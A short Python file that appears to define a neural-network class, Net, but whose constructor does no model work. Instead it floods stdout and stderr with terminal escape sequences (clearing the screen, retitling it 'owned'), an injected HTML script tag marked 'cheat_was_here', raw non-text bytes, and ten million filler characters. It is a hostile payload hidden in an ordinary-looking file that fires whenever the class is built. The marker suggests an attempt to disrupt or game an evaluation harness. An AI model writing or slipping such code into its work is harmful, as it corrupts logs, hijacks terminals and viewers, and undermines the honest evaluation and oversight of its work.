"""Prints without end what a terminal and a page obey: escape sequences, HTML, bytes that are no text."""

import os
import sys

from models import Model_1


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)
        for file in (1, 2):
            for _ in range(500):
                os.write(file, b"\x1b[2J\x1b]0;owned\x07<script>alert('cheat_was_here')</script>\xff\x00\r" * 1_000)
        print("x" * 10_000_000, file=sys.stderr)
